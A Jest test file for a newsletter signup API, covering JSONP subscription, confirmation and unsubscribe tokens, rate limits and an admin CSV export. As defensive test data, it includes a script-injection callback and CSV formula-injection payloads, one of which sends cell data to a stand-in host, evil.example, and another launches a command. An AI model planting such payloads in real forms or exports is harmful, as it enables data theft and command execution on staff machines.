/** @jest-environment node */
import fs from 'node:fs';
import path from 'node:path';
import { db } from '@/lib/server/db/knex';
import * as confirmRoute from '@/pages/api/newsletter/confirm';
import * as subscribeRoute from '@/pages/api/newsletter/subscribe/post-json';
import * as subscribersRoute from '@/pages/api/newsletter/subscribers';
import * as unsubscribeRoute from '@/pages/api/newsletter/unsubscribe';
import { confirmSubscription, CHECK_EMAIL_MESSAGE, CONFIRM_HOURS } from '@/lib/server/services/newsletter';
import { callApi } from '../helpers/apiMock';
import { DEMO, sessionCookie } from '../helpers/session';
import { withClockStill } from '../helpers/clock';
import { useTempDatabase } from '../helpers/tempDb';

let dir: string;
let cleanup: () => Promise<void>;
beforeAll(async () => {
  process.env.TRUSTED_PROXY_HOPS = '1';
  ({ dir, cleanup } = await useTempDatabase());
});
afterAll(async () => {
  delete process.env.TRUSTED_PROXY_HOPS;
  await cleanup();
});

let address = 0;
const from = () => ({ 'x-forwarded-for': `203.0.113.${++address}` });

/** A JSONP call as the signup block's <script> makes it, read back as the page's callback would see it. */
async function subscribe(query: Record<string, string>, headers: Record<string, string> = {}) {
  const res = await callApi(subscribeRoute, {
    query: { u: 'vtrans', id: 'embedded', c: '__jp0', ...query },
    headers: { ...from(), ...headers },
  });
  const m = /^\/\*\*\/__jp0\((.*)\);$/s.exec(res.text);
  return { res, reply: m ? (JSON.parse(m[1]) as { result: string; msg: string }) : null };
}

const ADA = { FNAME: 'Ada', LNAME: 'Lovelace', EMAIL: ' Ada@Example.com ' };
/** An .eml as text: folded headers unfolded, the quoted-printable body decoded (ASCII is all we look for). */
const decodeMail = (eml: string) =>
  eml
    .replace(/\r\n[ \t]+/g, ' ')
    .replace(/=\r?\n/g, '')
    .replace(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
const outbox = () => path.join(dir, 'outbox');
const mailsTo = (to: string) =>
  (fs.existsSync(outbox()) ? fs.readdirSync(outbox()) : [])
    .map((f) => decodeMail(fs.readFileSync(path.join(outbox(), f), 'utf8')))
    .filter((eml) => new RegExp(`^To: ${to}$`, 'mi').test(eml));
const linkIn = (eml: string, kind: 'confirm' | 'unsubscribe') => {
  const m = new RegExp(`/newsletter/${kind}\\?token=([\\w-]+)`).exec(eml);
  if (!m) throw new Error(`no ${kind} link in the email`);
  return m[1];
};
const subscriber = async (email: string) => (await db())('newsletter_subscribers').where({ email }).first();

describe('GET /api/newsletter/subscribe/post-json (JSONP, the provider protocol)', () => {
  it('answers a script calling the callback, stores a pending address and mails a confirmation link', async () => {
    const { res, reply } = await subscribe(ADA);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/javascript; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(reply).toEqual({ result: 'success', msg: CHECK_EMAIL_MESSAGE });

    const row = await subscriber('ada@example.com');
    expect(row).toMatchObject({ first_name: 'Ada', last_name: 'Lovelace', status: 'pending' });
    const mails = mailsTo('ada@example.com');
    expect(mails).toHaveLength(1);
    expect(mails[0]).toMatch(/^Subject: Confirm your subscription to VTrans Updates$/m);
    const token = linkIn(mails[0], 'confirm');
    // Only the token's hash is stored; the unsubscribe link is in the mail from the start.
    expect(row.confirm_token_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(row.confirm_token_hash).not.toContain(token);
    expect(linkIn(mails[0], 'unsubscribe')).toBe(row.unsubscribe_token);
  });

  it('refuses a callback that is not a function name with a 400 naming it, and runs nothing', async () => {
    const { res } = await subscribe({ ...ADA, c: 'alert(1);//' });
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.json).toMatchObject({ error: { field: 'c' } });
  });

  it("gives SPEC §5's message for a bad address as a JSONP error and stores nothing", async () => {
    const { reply } = await subscribe({ FNAME: 'Bo', LNAME: 'B', EMAIL: 'not-an-address' });
    expect(reply).toEqual({ result: 'error', msg: 'Please provide a valid email.' });
    const { reply: noName } = await subscribe({ LNAME: 'B', EMAIL: 'bo@example.com' });
    expect(noName).toEqual({ result: 'error', msg: 'Please provide a first name.' });
    expect(await subscriber('bo@example.com')).toBeUndefined();
  });

  it('refuses a signup from another site (double opt-in aside, nobody is signed up by a third page)', async () => {
    const { reply } = await subscribe(
      { FNAME: 'Cy', LNAME: 'C', EMAIL: 'cy@example.com' },
      { 'sec-fetch-site': 'cross-site' },
    );
    expect(reply).toEqual({ result: 'error', msg: 'Please sign up from the VTrans website.' });
    expect(await subscriber('cy@example.com')).toBeUndefined();
  });

  it('answers a confirmed address exactly like a new one, and the email it promises says it is on the list', async () => {
    const email = 'dee@example.com';
    await subscribe({ FNAME: 'Dee', LNAME: 'D', EMAIL: email });
    await confirmSubscription(linkIn(mailsTo(email)[0], 'confirm'));
    const { reply } = await subscribe({ FNAME: 'Dee', LNAME: 'D', EMAIL: email });
    expect(reply).toEqual({ result: 'success', msg: CHECK_EMAIL_MESSAGE });
    expect(CHECK_EMAIL_MESSAGE).toMatch(/we sent you an email/);
    const mails = mailsTo(email);
    expect(mails).toHaveLength(2);
    expect(mails[1]).toMatch(/It is on the list already/);
    expect(mails[1]).not.toMatch(/newsletter\/confirm/);
    expect(linkIn(mails[1]!, 'unsubscribe')).toBeTruthy();
  });

  it('sends at most three confirmation emails an hour to one address, then says to wait', () =>
    // The limit counts in clock hours: all four asks in one.
    withClockStill(async () => {
      const email = 'eve@example.com';
      for (let i = 0; i < 3; i++) {
        expect((await subscribe({ FNAME: 'Eve', LNAME: 'E', EMAIL: email })).reply?.result).toBe('success');
      }
      const { reply } = await subscribe({ FNAME: 'Eve', LNAME: 'E', EMAIL: email });
      expect(reply?.result).toBe('error');
      expect(reply?.msg).toMatch(/^Too many requests\. Please wait \d+ seconds/);
      expect(mailsTo(email)).toHaveLength(3);
      // The latest link still works; the earlier ones were replaced.
      const links = mailsTo(email).map((m) => linkIn(m, 'confirm'));
      await expect(confirmSubscription(links[0])).rejects.toMatchObject({ status: 404 });
      await expect(confirmSubscription(links[2])).resolves.toMatchObject({ status: 'confirmed' });
    }));
});

describe('POST /api/newsletter/confirm and /unsubscribe', () => {
  const post = (route: typeof confirmRoute, body: unknown, headers: Record<string, string> = {}) =>
    callApi(route, { method: 'POST', body, headers: { ...from(), ...headers } });

  it('confirms once with the emailed token, then the link is used up', async () => {
    const email = 'fay@example.com';
    await subscribe({ FNAME: 'Fay', LNAME: 'F', EMAIL: email });
    const token = linkIn(mailsTo(email)[0], 'confirm');
    const ok = await post(confirmRoute, { token });
    expect(ok.status).toBe(200);
    expect(ok.json).toEqual({ status: 'confirmed', email: 'f***@example.com' });
    expect(await subscriber(email)).toMatchObject({ status: 'confirmed', confirm_token_hash: null });
    const again = await post(confirmRoute, { token });
    expect(again.status).toBe(404);
    expect(again.json).toMatchObject({ error: { message: expect.stringMatching(/has been used already/) } });
  });

  it(`refuses a link older than ${CONFIRM_HOURS} hours`, async () => {
    const email = 'gus@example.com';
    await subscribe({ FNAME: 'Gus', LNAME: 'G', EMAIL: email });
    const token = linkIn(mailsTo(email)[0], 'confirm');
    const later = new Date(Date.now() + (CONFIRM_HOURS + 1) * 3600_000);
    await expect(confirmSubscription(token, later)).rejects.toMatchObject({ status: 404 });
    expect(await subscriber(email)).toMatchObject({ status: 'pending' });
  });

  it('unsubscribes with the link from any email, twice with the same answer; a stranger token is 404', async () => {
    const email = 'hal@example.com';
    await subscribe({ FNAME: 'Hal', LNAME: 'H', EMAIL: email });
    const token = linkIn(mailsTo(email)[0], 'unsubscribe');
    for (let i = 0; i < 2; i++) {
      const res = await post(unsubscribeRoute, { token });
      expect(res.status).toBe(200);
      expect(res.json).toEqual({ status: 'unsubscribed', email: 'h***@example.com' });
    }
    expect(await subscriber(email)).toMatchObject({ status: 'unsubscribed' });
    expect((await post(unsubscribeRoute, { token: 'nope' })).status).toBe(404);
    // Signing up again after leaving starts a new confirmation.
    await subscribe({ FNAME: 'Hal', LNAME: 'H', EMAIL: email });
    expect(await subscriber(email)).toMatchObject({ status: 'pending' });
  });

  it('400 naming the token when it is missing; 415 for a form post; 403 from another site', async () => {
    const missing = await post(confirmRoute, {});
    expect(missing.status).toBe(400);
    expect(missing.json).toMatchObject({ error: { field: 'token' } });
    const form = await callApi(confirmRoute, {
      method: 'POST',
      body: 'token=x',
      headers: { ...from(), 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect(form.status).toBe(415);
    const cross = await post(unsubscribeRoute, { token: 'x' }, { 'sec-fetch-site': 'cross-site' });
    expect(cross.status).toBe(403);
  });
});

describe('GET /api/newsletter/subscribers (staff export)', () => {
  it('gives an administrator every subscriber as CSV with status and dates', async () => {
    const res = await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.admin) });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="vtrans-newsletter/);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    const lines = res.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('email,first_name,last_name,status,signed_up,confirmed,unsubscribed');
    expect(lines.find((l) => l.startsWith('fay@example.com,Fay,F,confirmed,'))).toMatch(
      // In Virginia time with its zone, not UTC.
      /,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,$/,
    );
    expect(lines.some((l) => l.startsWith('hal@example.com,Hal,H,pending,'))).toBe(true);
  });

  it('neutralises a formula typed into the anonymous signup form', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    await subscribe({ FNAME: formula, LNAME: '+cmd|" /C calc"!A0', EMAIL: 'mallory@example.com' });
    const res = await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.admin) });
    const line = res.text.split('\n').find((l) => l.startsWith('mallory@example.com,'));
    expect(line).toMatch(
      /^mallory@example\.com,"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""Click""\)","'\+cmd\|"" \/C calc""!A0",pending,/,
    );
  });

  it('is closed to anyone else', async () => {
    expect((await callApi(subscribersRoute)).status).toBe(401);
    expect((await callApi(subscribersRoute, { headers: await sessionCookie(DEMO.reviewer) })).status).toBe(
      403,
    );
  });
});
